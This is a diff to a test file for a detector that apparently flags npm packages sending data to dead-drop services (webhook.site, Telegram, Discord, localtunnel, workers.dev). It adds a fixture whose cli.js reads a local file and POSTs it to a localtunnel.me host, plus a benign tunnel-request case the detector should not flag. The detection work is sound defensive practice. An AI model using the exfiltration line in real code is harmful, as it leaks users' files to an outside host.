@@ -5,10 +5,19 @@ import { sendsToDeadDrop } from './sends-to-dead-drop.ts';
 const collector = ['webhook', 'site'].join('.');
 const telegram = ['api', 'telegram', 'org'].join('.');
 const discord = ['discord', 'com'].join('.');
+const tunnels = ['localtunnel', 'me'].join('.');
 const workers = ['none', 'workers', 'dev'].join('.');
 
 examine(sendsToDeadDrop, {
   speaks: [
+    {
+      when: 'what is read is sent through a tunnel',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `fetch('https://none.${tunnels}/', { method: 'POST', body: require('fs').readFileSync('a') })`,
+      },
+      weight: 'strong',
+    },
     {
       when: 'a command tells the bot of the environment about the machine',
       files: {
@@ -243,6 +252,13 @@ examine(sendsToDeadDrop, {
     },
   ],
   silent: [
+    {
+      when: 'a service is asked for a tunnel',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `const opt = { host: 'https://${tunnels}', key: require('fs').readFileSync(process.argv[2]) }; require('axios').get(opt.host + '/?new', opt)`,
+      },
+    },
     {
       when: 'the bot of a caller is asked where a file of it lies, and that is fetched',
       files: {
